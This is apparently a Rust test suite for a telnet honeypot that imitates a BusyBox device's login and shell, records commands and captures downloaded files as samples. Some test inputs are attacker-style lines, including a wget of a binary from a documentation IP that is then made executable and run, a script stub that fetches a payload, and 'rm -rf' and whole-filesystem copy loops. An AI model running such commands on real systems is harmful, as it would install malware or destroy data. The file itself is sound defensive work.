mod bots;

use super::super::transcript::{Outcome, Step as Do, Transcript};
use super::super::{Guise, Output, Persona, Registry};
use super::*;

/// What follows the opening and the prompt for the name.
fn visit(settings: &str, steps: &[Do<'_>]) -> Outcome {
    Transcript::tcp("telnet", settings).run(steps)
}

/// A login that is let in.
const LOGIN: [Do<'_>; 2] = [Do::Recv(b"root\r\nroot\r\n"), Do::Wait(300)];

#[test]
fn the_end_of_the_passwords_line_is_no_line_of_the_shell() {
    for end in ["\r\n", "\r\0", "\r", "\n"] {
        let typed = format!("root{end}root{end}");
        let outcome = visit("", &[Do::Recv(typed.as_bytes()), Do::Wait(300)]);
        let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
        assert_eq!(sent.matches("~ # ").count(), 1, "{end:?}: {sent}");
    }
}

/// What these lines print after a login, without echo and prompts, `\r\n` as `\n`.
fn shell(lines: &[&str]) -> String {
    shell_at(lines, 0).0
}

fn shell_at(lines: &[&str], wait_ms: u64) -> (String, Outcome) {
    let mut steps = vec![LOGIN[0], LOGIN[1]];
    let typed: Vec<Vec<u8>> = lines.iter().map(|line| [line.as_bytes(), b"\r\n"].concat()).collect();
    for line in &typed {
        steps.push(Do::Recv(line));
        if wait_ms > 0 {
            steps.push(Do::Wait(wait_ms));
        }
    }
    let outcome = visit("", &steps);
    let after_login = &outcome.sent()[outcome.sent_after[1]..];
    let mut text = String::from_utf8_lossy(after_login).replace("\r\n", "\n");
    for line in lines {
        // The echo; of ^C the terminal shows its own sign.
        text = text.replacen(&format!("{}\n", line.replace('\x03', "")), "", 1);
    }
    (["~ # ", "/tmp # "].iter().fold(text, |text, prompt| text.replace(prompt, "")), outcome)
}

fn commands(outcome: &Outcome) -> Vec<&str> {
    outcome
        .events
        .iter()
        .filter(|event| event.kind == "command")
        .map(|event| event.fields["command"].as_str().unwrap())
        .collect()
}

fn urls(outcome: &Outcome) -> Vec<&str> {
    outcome.downloads.iter().map(|download| download.url.as_str()).collect()
}

#[test]
fn the_opening_is_busybox_telnetds_and_the_host_asks_for_a_name() {
    let outcome = visit("", &[Do::Wait(60)]);
    let host = Persona::example().host_name().to_owned();
    let expected = [&b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"[..], host.as_bytes(), b" login: "].concat();
    assert_eq!(outcome.sent(), expected);
    assert_eq!(outcome.the_event("connect").fields["bytes"], 0);
}

#[test]
fn a_wrong_password_is_thought_about_for_two_to_three_seconds_and_the_third_ends_the_visit() {
    let tries = [Do::Recv(b"root\r\nx\r\n"), Do::Wait(1_900), Do::Wait(1_200)];
    let steps = [&[Do::Wait(60)], &[tries, tries, tries].concat()[..]].concat();
    let outcome = visit("credentials = 'reject-all'", &steps);
    let (typed, early, late) = (outcome.sent_after[1], outcome.sent_after[2], outcome.sent_after[3]);
    assert_eq!(typed, early, "nothing comes before two seconds");
    assert!(String::from_utf8_lossy(&outcome.sent()[early..late]).starts_with("Login incorrect\r\n"));
    assert!(outcome.closed);
    assert_eq!(outcome.events.iter().filter(|event| event.kind == "login").count(), 3);
}

#[test]
fn the_name_is_echoed_and_the_password_is_not() {
    let outcome = visit("", &[Do::Wait(60), Do::Recv(b"roox\x7ft\r\nsecret\r\0")]);
    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
    assert!(sent.ends_with("roox\x08 \x08t\r\nPassword: \r\n"), "{sent:?}");
    let login = outcome.the_event("login");
    assert_eq!((&login.fields["username"], &login.fields["password"]), (&"root".into(), &"secret".into()));
}

#[test]
fn the_first_try_is_let_in_and_another_one_is_not() {
    let outcome = visit("", &[Do::Recv(b"root\r\nroot\r\n"), Do::Wait(300), Do::Recv(b"exit\r\n")]);
    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
    assert!(sent.contains("BusyBox v") && sent.contains("~ # exit\r\n"), "{sent}");
    assert!(outcome.closed);
    assert_eq!(outcome.the_event("login").fields["success"], true);
}

#[test]
fn line_ends_of_every_kind_are_one_line_end() {
    let outcome =
        visit("", &[Do::Recv(b"a\r\nb\r\n"), Do::Wait(300), Do::Recv(b"echo 1\r\0echo 2\necho 3\r\necho 4\r")]);
    assert_eq!(commands(&outcome), ["echo 1", "echo 2", "echo 3", "echo 4"]);
}

#[test]
fn are_you_there_is_answered_and_iac_never_becomes_text() {
    let outcome = visit("", &[Do::Recv(b"ro\xff\xf6ot\xff\xfb\x63\r\nx\r\n"), Do::Wait(300)]);
    let sent = outcome.sent();
    let holds = |bytes: &[u8]| sent.windows(bytes.len()).any(|window| window == bytes);
    assert!(holds(b"\xff\xf1") && holds(b"\xff\xfe\x63"));
    assert_eq!(outcome.the_event("login").fields["username"], "root");
    assert_eq!(outcome.the_event("payload").fields["decoded"]["options"][0], "WILL 99");
}

#[test]
fn a_login_that_takes_too_long_is_ended() {
    let outcome = visit("login_timeout_secs = 60", &[Do::Recv(b"root\r\n"), Do::Wait(61_000)]);
    assert!(String::from_utf8_lossy(&outcome.sent()).ends_with("Login timed out after 60 seconds\r\n"));
    assert!(outcome.closed);
    assert_eq!(outcome.the_event("login").fields["username"], "root", "a name without a password is recorded");
}

#[test]
fn commands_cut_anywhere_and_asked_for_before_the_prompts_are_all_carried_out() {
    // Window size, terminal type, environment and a doubled IAC among what is typed; all is there before the first prompt.
    let typed = b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\xff\xff\x18\xff\xf0\xff\xfb\x18ro\xff\xfa\x18\x00xterm\xff\xf0ot\r\0\xff\xfb\x27ro\xff\xf1ot\r\n\
        echo a\xff\xffb | wc -c\r\0ecx\x7fho mended\r\nlost line\x15echo kept\r\n\x1b[A\x1b[Decho arrows\tx\r\ngone\x03echo after\n";
    let outcome = visit("", &[Do::Recv(typed), Do::Wait(2_000)]);
    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
    for wanted in ["\r\n4\r\n", "\r\nmended\r\n", "\r\nkept\r\n", "\r\nafter\r\n", "^C"] {
        assert!(sent.contains(wanted), "{wanted:?} is missing in {sent:?}");
    }
    assert_eq!(outcome.the_event("login").fields["username"], "root");
}

#[test]
fn what_was_written_is_there_at_the_next_visit_and_only_for_its_source() {
    let mut registry = Registry::builtin();
    let tables: toml::Table = "[telnet]\ncredentials = 'accept-all'".parse().unwrap();
    registry.configure(&tables, 4_096, &Guise::example()).unwrap();
    let visit = |client: &str, line: &str| {
        let session = Session { client: client.parse().unwrap(), ..Session::example(Transport::Tcp, 23) };
        let mut handler = registry.find("telnet").unwrap().make(&session);
        let mut out = Output::default();
        let mut now = Timestamp::from_micros(1_700_000_000_000_000);
        handler.open(&mut Context::new(&session, now, &mut out));
        handler.data(&mut Context::new(&session, now, &mut out), format!("a\nb\n{line}\n").as_bytes());
        for _ in 0..2 {
            now = now + Duration::from_secs(1);
            handler.deadline(&mut Context::new(&session, now, &mut out));
        }
        handler.closed(&mut Context::new(&session, now, &mut out));
        String::from_utf8_lossy(out.bytes()).into_owned()
    };
    visit("192.0.2.1:1", "echo canary-42 > /tmp/.x");
    assert!(visit("192.0.2.1:2", "cat /tmp/.x").contains("\r\ncanary-42\r\n"));
    assert!(visit("192.0.2.9:1", "cat /tmp/.x").contains("No such file or directory"));
}

#[test]
fn sleep_takes_its_time_and_what_is_typed_meanwhile_comes_after() {
    let mut steps =
        vec![LOGIN[0], LOGIN[1], Do::Recv(b"sleep 5; echo over\r\necho next\r\n"), Do::Wait(4_900), Do::Wait(200)];
    let outcome = visit("", &steps);
    assert_eq!(outcome.sent_after[2], outcome.sent_after[3]);
    let late = String::from_utf8_lossy(&outcome.sent()[outcome.sent_after[3]..]).into_owned();
    assert!(late.starts_with("over\r\n") && late.contains("next\r\n"), "{late}");
    steps.insert(3, Do::Recv(b"\x03"));
    let outcome = visit("", &steps);
    assert!(String::from_utf8_lossy(&outcome.sent()).contains("^C\r\n~ # "));
}

#[test]
fn a_loop_without_end_keeps_only_its_own_visitor_waiting() {
    let (text, outcome) = shell_at(&["while true; do echo x; done", "\x03echo back"], 0);
    assert!(text.matches("x\n").count() > 100 && text.ends_with("back\n"), "{}", text.len());
    assert!(outcome.sent().len() < 300_000);
}

#[test]
fn programs_say_what_busybox_says() {
    for (line, expected) in [
        ("enable", "-sh: enable: not found\n"),
        ("/bin/busybox QZXYW", "QZXYW: applet not found\n"),
        ("cat nope", "cat: can't open 'nope': No such file or directory\n"),
        ("cat /tmp", "cat: read error: Is a directory\n"),
        ("rm nope", "rm: can't remove 'nope': No such file or directory\n"),
        ("mkdir /tmp", "mkdir: can't create directory '/tmp': File exists\n"),
        ("> /nope/x", "-sh: can't create /nope/x: nonexistent directory\n"),
        ("./x", "-sh: ./x: not found\n"),
        ("ls nope", "ls: nope: No such file or directory\n"),
        ("kill 99999", "sh: can't kill pid 99999: No such process\n"),
        ("id; whoami; pwd", "uid=0(root) gid=0(root)\nroot\n/root\n"),
        ("echo -ne '\\x41\\0102\\103\\n'", "ABC\n"),
        ("echo a b  'c  d' \"e $USER\" $((2+3*4))", "a b c  d e root 14\n"),
        ("false && echo no || echo yes; echo $?", "yes\n0\n"),
        ("for i in 1 2 3; do echo -n $i; done; echo", "123\n"),
        ("if [ -f /etc/passwd ]; then echo there; else echo gone; fi", "there\n"),
        ("echo one > /tmp/f; echo two >> /tmp/f; while read l; do echo \"[$l]\"; done < /tmp/f", "[one]\n[two]\n"),
        ("cat /etc/passwd | grep root | cut -d: -f7", "/bin/sh\n"),
        ("ls nope 2>&1 | wc -l; ls nope 2>/dev/null", "1\n"),
        ("X=$(echo `uname -s`); echo ${X}ish ${Y:-none}", "Linuxish none\n"),
        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
        ("touch /tmp/a1 /tmp/a2; echo /tmp/a*; rm -rf /tmp/a*; echo /tmp/a*", "/tmp/a1 /tmp/a2\n/tmp/a*\n"),
        ("dd if=/bin/echo bs=4 count=1 2>/dev/null | tail -c 3; echo", "ELF\n"),
        ("cp /bin/echo /tmp/e; /tmp/e hello", "e: applet not found\n"),
        ("cp /bin/busybox /tmp/busybox; /tmp/busybox echo hello", "hello\n"),
        ("echo 'echo script $1' > /tmp/s.sh; sh /tmp/s.sh x; chmod +x /tmp/s.sh; /tmp/s.sh y", "script x\nscript y\n"),
        ("cat <<E\nbody $HOME\nE", "> > body /root\n"),
        ("a(", "-sh: syntax error: unexpected \"(\"\n"),
    ] {
        let lines: Vec<&str> = line.split('\n').collect();
        assert_eq!(shell(&lines), expected, "{line}");
    }
}

#[test]
fn a_program_that_reads_the_terminal_gets_what_is_typed() {
    let outcome = visit(
        "",
        &[LOGIN[0], LOGIN[1], Do::Recv(b"cat > /tmp/t; echo stored\r\nline one\r\nline two\r\n\x04cat /tmp/t\r\n")],
    );
    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
    assert!(sent.contains("stored\r\n") && sent.contains("cat /tmp/t\r\nline one\r\nline two\r\n"), "{sent}");
}

#[test]
fn a_new_password_is_asked_for_twice_and_not_shown() {
    let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"passwd\r\nhidden\r\nhidden\r\n"), Do::Wait(400)]);
    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
    assert!(
        !sent.contains("hidden") && sent.contains("Retype password: ") && sent.contains("changed by root"),
        "{sent}"
    );
    assert!(commands(&outcome).contains(&"hidden"));
}

#[test]
fn what_was_fetched_is_there_and_can_be_run() {
    let (text, outcome) =
        shell_at(&["cd /tmp; wget http://198.51.100.9/b.arm; ls", "chmod +x b.arm; ./b.arm x"], 1_000);
    assert!(text.contains("b.arm\n") && text.contains("listening tun0\n"), "{text}");
    assert_eq!(urls(&outcome), ["http://198.51.100.9/b.arm"]);
}

#[test]
fn a_file_left_behind_is_a_sample_and_a_trial_is_not() {
    let (_, outcome) = shell_at(
        &["echo kami > /tmp/.t; cat /tmp/.t; rm /tmp/.t", "echo '#!/bin/sh\nwget http://198.51.100.9/x' > /tmp/s.sh"],
        0,
    );
    let names: Vec<&str> = outcome.samples.iter().map(|sample| sample.name.as_str()).collect();
    assert_eq!(names, ["/tmp/s.sh"]);
}

#[test]
fn commands_keep_every_byte() {
    let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"echo \xc3\x28\r\n")]);
    assert_eq!(outcome.the_event("command").fields["command_hex"], "6563686f20c328");
}

#[test]
fn an_idle_session_is_small() {
    assert!(size_of::<Telnet>() <= 512, "{}", size_of::<Telnet>());
    assert!(size_of::<Login>() <= 256, "{}", size_of::<Login>());
    assert!(size_of::<Terminal>() <= 768, "{}", size_of::<Terminal>());
}

/// Everything that a shell knows, thrown together.
const WORDS: [&str; 48] = [
    "echo",
    "-ne",
    "'\\x41\\0101'",
    "cat",
    "/proc/mounts",
    "/dev/urandom",
    "/dev/zero",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "(",
    ")",
    "{",
    "}",
    ">",
    ">>",
    "<",
    "<<",
    "2>&1",
    "while",
    "true",
    "do",
    "done",
    "for",
    "i",
    "in",
    "*",
    "/*",
    "$i",
    "$(cat",
    "`ls`",
    "\"$X\"",
    "X=$X$X$X$X",
    "cp",
    "-r",
    "/",
    "/tmp/a",
    "dd",
    "if=/dev/zero",
    "of=/tmp/z",
    "sh",
    "rm",
    "-rf",
    "mv",
    "find",
    "tail",
];

#[test]
fn no_input_makes_a_session_panic_or_say_more_than_its_bounds() {
    let mut registry = Registry::builtin();
    let tables: toml::Table = "[telnet]\ncredentials = 'accept-all'".parse().unwrap();
    registry.configure(&tables, 4_096, &Guise::example()).unwrap();
    let entry = registry.find("telnet").unwrap();
    for seed in 0..60 {
        let mut random = Random::new(seed);
        let session = Session { seed, ..Session::example(Transport::Tcp, 23) };
        let mut handler = entry.make(&session);
        let mut out = Output::default();
        let mut now = Timestamp::from_micros(1_700_000_000_000_000);
        handler.open(&mut Context::new(&session, now, &mut out));
        let mut line = b"root\r\nroot\r\n".to_vec();
        for round in 0..12 {
            now = now + Duration::from_secs(3);
            handler.data(&mut Context::new(&session, now, &mut out), &line);
            handler.deadline(&mut Context::new(&session, now, &mut out));
            assert!(
                out.bytes().len() < 2 << 20,
                "{:?} gave {} bytes",
                String::from_utf8_lossy(&line),
                out.bytes().len()
            );
            if out.close.is_some() {
                break;
            }
            out.clear();
            line.clear();
            if round > 1 {
                // What the line before has left running is given up.
                line.push(0x03);
            }
            for _ in 0..random.within(&(1..=14)) {
                let word = WORDS[usize::try_from(random.within(&(0..=47))).unwrap()];
                line.extend_from_slice(word.as_bytes());
                line.push(if random.bits().is_multiple_of(9) { random.bits().to_le_bytes()[0] } else { b' ' });
            }
            line.extend_from_slice(b"\r\n");
        }
        handler.closed(&mut Context::new(&session, now, &mut out));
    }
}

#[test]
fn a_loop_of_heavy_work_is_over_soon_for_us() {
    for line in [
        "while :; do cp -r / /tmp/a; done",
        "while :; do cat /dev/urandom | wc -c; done",
        "while :; do find / > /tmp/f; done",
    ] {
        let start = std::time::Instant::now();
        let (_, outcome) = shell_at(&[line], 0);
        assert!(!outcome.closed);
        // 22 runs without optimisation.
        assert!(start.elapsed() < Duration::from_secs(20), "{line}: {:?}", start.elapsed());
    }
}

#[test]
fn hundreds_of_lines_that_arrive_together_are_answered_little_by_little() {
    let make = format!(
        "cd /tmp; echo {} > f; cat f{} > g; cat g{} > h\r\n",
        "a".repeat(1_000),
        " f".repeat(7),
        " g".repeat(7)
    );
    let many = "cat h h h\r\n".repeat(400);
    let steps = [LOGIN[0], LOGIN[1], Do::Recv(make.as_bytes()), Do::Recv(many.as_bytes()), Do::Wait(60)];
    let outcome = visit("", &steps);
    let printed: Vec<usize> = outcome.sent_after.windows(2).map(|pair| pair[1] - pair[0]).collect();
    assert!((256 << 10..512 << 10).contains(&printed[2]), "{printed:?}");
    assert!(printed[3] > 256 << 10 && printed[3] < 2 << 20, "{printed:?}");
}
